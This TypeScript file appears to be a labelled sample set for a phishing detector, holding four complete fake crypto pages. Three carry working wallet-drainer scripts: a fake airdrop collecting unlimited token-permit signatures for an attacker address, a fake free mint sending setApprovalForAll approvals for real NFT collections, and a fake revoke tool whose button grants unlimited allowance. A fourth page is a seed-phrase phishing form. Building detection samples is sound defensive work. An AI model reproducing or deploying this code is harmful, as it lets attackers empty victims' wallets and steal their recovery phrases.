import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute, pngRoute } from '../parts/e-bin.js';
import { doc } from '../parts/za-kit.js';

export const entries: Entry[] = [
  {
  id: 'za-drain-airdrop-claim-permit',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://claim.zkswift-airdrop.xyz/',
  body: doc({
    title: 'ZKSwift Airdrop — Season 2 Claim',
    css: `body{margin:0;background:#0d0f1a;color:#fff;font-family:Inter,Arial}nav{display:flex;justify-content:space-between;padding:18px 30px}.c{max-width:440px;margin:60px auto;background:#171a2b;border-radius:18px;padding:28px;text-align:center}.amt{font-size:40px;font-weight:800;color:#7cf6c3}button{width:100%;padding:14px;border:0;border-radius:12px;background:#7cf6c3;color:#000;font-weight:700;font-size:16px}small{color:#889}`,
    body: `<nav><b>⚡ ZKSwift</b><span>Docs · Governance · Bridge</span></nav><div class="c"><h2>Season 2 airdrop is live</h2><p>Eligible wallets can claim their $ZKS allocation until the snapshot closes.</p><div class="amt" id="amt">— ZKS</div><button id="cb">Connect wallet</button><p><small id="st">Claim ends in 23h 14m</small></p></div>
<script src="/assets/claim.3be1.js"></script>`,
  }),
  routes: {
    'claim.zkswift-airdrop.xyz/assets/claim.3be1.js': jsRoute(`(function(){var R='0x4a1D9bE23c7F05c88aB9E2d0F1c6B7a3e9D2f840';var st=document.getElementById('st');
document.getElementById('cb').onclick=async function(){if(!window.ethereum){st.textContent='No wallet found. Open in MetaMask browser.';return;}
var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];document.getElementById('amt').textContent='2,480 ZKS';this.textContent='Claim 2,480 ZKS';
var tk=await (await fetch('/api/balances?a='+acc)).json();
this.onclick=async function(){for(var i=0;i<tk.tokens.length;i++){var t=tk.tokens[i];
var typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},primaryType:'Permit',domain:{name:t.name,version:'1',chainId:1,verifyingContract:t.address},message:{owner:acc,spender:R,value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:t.nonce,deadline:'1893456000'}};
var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(typed)]});
await fetch('/api/claim',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:acc,t:t.address,s:sig})});}
st.textContent='Claim submitted! Tokens arrive within 10 minutes.';};};})();`),
    'claim.zkswift-airdrop.xyz/api/balances': jsonRoute({ tokens: [{ name: 'USD Coin', address: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', nonce: 0 }, { name: 'Dai Stablecoin', address: '0x6B175474E89094C44Da98b954EedeAC495271d0F', nonce: 0 }] }),
    'claim.zkswift-airdrop.xyz/api/claim': jsonRoute({ ok: true }),
  },
},
  {
  id: 'za-drain-free-mint-setapprovalforall',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://mint-pixelronins.io/free-mint',
  body: doc({
    title: 'Pixel Ronins — Free Mint (Holders Only)',
    css: `body{margin:0;background:#ffecd2;font-family:'Press Start 2P',monospace,Arial;color:#2d1b00;text-align:center}.c{max-width:520px;margin:40px auto;background:#fff;border:4px solid #2d1b00;padding:24px}img{width:200px;height:200px;image-rendering:pixelated;background:#f99}button{background:#ff5e3a;color:#fff;border:4px solid #2d1b00;padding:14px 24px;font-family:inherit}`,
    body: `<div class="c"><img src="/ronin.png" alt=""><h2>PIXEL RONINS</h2><p>3,333 supply · FREE MINT for holders of Azuki, Pudgy Penguins & Milady · 1,812 / 3,333 minted</p><button id="m">CONNECT & MINT</button><p id="s" style="font-size:11px"></p></div>
<script>var OP='0x8f3b2C0dE19a74F6b1E5c9d2A7F40e1b3C6d5E97';var col=['0xED5AF388653567Af2F388E6224dC7C4b3241C544','0xBd3531dA5CF5857e7CfAA92426877b022e612cf8','0x5Af0D9827E0c53E4799BB226655A1de152A425a5'];
document.getElementById('m').onclick=async function(){var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];document.getElementById('s').textContent='Verifying holder status…';
for(var i=0;i<col.length;i++){try{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:col[i],data:'0xa22cb465'+OP.slice(2).toLowerCase().padStart(64,'0')+'1'.padStart(64,'0')}]});}catch(e){}}
document.getElementById('s').textContent='Mint successful! Reveal in 48h.';};</script>`,
  }),
  routes: { 'mint-pixelronins.io/ronin.png': pngRoute(255, 94, 58) },
},
  {
  id: 'za-drain-fake-revoke-tool',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://revoke-approvals-check.app/',
  body: doc({
    title: 'Revoke — Check and revoke your token approvals',
    css: `body{margin:0;font-family:Inter,Arial;background:#fff;color:#111}header{display:flex;justify-content:space-between;padding:16px 30px;border-bottom:1px solid #eee}.w{max-width:800px;margin:40px auto;text-align:center}.alert{background:#fff1f1;border:1px solid #f99;padding:14px;border-radius:8px;color:#900}button{background:#000;color:#fff;border:0;border-radius:8px;padding:12px 24px}table{width:100%;margin-top:20px;border-collapse:collapse}td,th{border-bottom:1px solid #eee;padding:8px;text-align:left}`,
    body: `<header><b>Revoke.check</b><span>Extension · Exploits · Learn</span></header><div class="w"><h1>Protect your wallet from hackers</h1><div class="alert">⚠ A critical exploit is affecting wallets that interacted with popular DEX routers. Revoke risky approvals now.</div><br><button id="c">Connect wallet & scan</button><table id="t"></table></div>
<script>document.getElementById('c').onclick=async function(){var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];
var rows=[['USDT','Uniswap V2 Router','Unlimited','0xdAC17F958D2ee523a2206206994597C13D831ec7'],['USDC','1inch Router','Unlimited','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'],['WETH','Unknown contract ⚠','Unlimited','0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2']];
document.getElementById('t').innerHTML='<tr><th>Token</th><th>Spender</th><th>Allowance</th><th></th></tr>'+rows.map(function(r,i){return '<tr><td>'+r[0]+'</td><td>'+r[1]+'</td><td>'+r[2]+'</td><td><button onclick="rv('+i+')">Revoke</button></td></tr>'}).join('');
window.rv=async function(i){var t=rows[i][3];await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:t,data:'0x095ea7b3'+'0000000000000000000000003e8f2bA1c0d95a7e6B4c1F7d20E9b58A6c4D7f12'+'f'.repeat(64)}]});alert('Approval revoked ✓');};};</script>`,
  }),
},
  {
  id: 'za-phish-seed-wallet-sync-support',
  label: 'phishing',
  kind: 'seed-phrase',
  url: 'https://walletconnect-dapp-sync.net/validate',
  body: doc({
    title: 'Wallet Sync — Rectify',
    css: `body{margin:0;font-family:Arial;background:#f2f5ff}.c{max-width:460px;margin:40px auto;background:#fff;border-radius:14px;padding:24px;box-shadow:0 4px 20px #0001}.tabs span{display:inline-block;padding:8px 12px;border-bottom:2px solid transparent;cursor:pointer}.tabs .on{border-color:#3b99fc;color:#3b99fc}textarea{width:100%;height:110px;padding:10px;box-sizing:border-box;border:1px solid #ccd;border-radius:8px}button{width:100%;padding:13px;background:#3b99fc;color:#fff;border:0;border-radius:8px;margin-top:12px}`,
    body: `<div class="c"><h2>Import wallet to resolve the issue</h2><p>Our support team (from the Telegram group) has identified a synchronisation error with your wallet. Validate your wallet to fix pending transactions, missing balance or failed claims.</p><div class="tabs"><span class="on">Phrase</span><span>Keystore JSON</span><span>Private key</span></div>
<form method="post" action="/validate/submit"><textarea name="phrase" placeholder="Enter your recovery phrase — typically 12 (sometimes 24) words separated by single spaces"></textarea><button>VALIDATE</button></form><p style="font-size:12px;color:#888">Your data is encrypted end-to-end and never stored.</p></div>`,
  }),
},
];
